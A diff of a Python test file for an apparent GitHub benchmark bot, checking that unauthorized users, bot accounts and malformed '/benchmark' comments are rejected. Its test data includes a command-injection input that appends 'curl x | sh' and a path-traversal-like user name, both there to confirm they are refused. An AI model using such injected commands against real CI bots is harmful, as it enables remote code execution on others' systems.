@@ -102,7 +102,12 @@ def test_a_pull_request_of_a_fork_is_measured_but_gets_no_pull_request(world: Wo
     [
         ("issue_comment", comment("/benchmark L4", "reader"), 3, "reader may not write to acme/kernels"),
         ("issue_comment", comment("/benchmark L4", "stranger"), 3, "stranger may not write"),
-        ("issue_comment", comment("/benchmark L4", "app[bot]", "Bot"), 3, "may not write"),
+        (
+            "issue_comment",
+            comment("/benchmark L4", "app[bot]", "Bot"),
+            3,
+            "app[bot] is a program, and programs may not",
+        ),
         ("issue_comment", comment("/benchmark L4", "a/../b"), 2, "does not tell who asks"),
         ("issue_comment", comment("/benchmark L4; curl x | sh"), 2, "not understood"),
         ("issue_comment", comment("/benchmark L44"), 2, "There is no GPU type L44. Did you mean"),
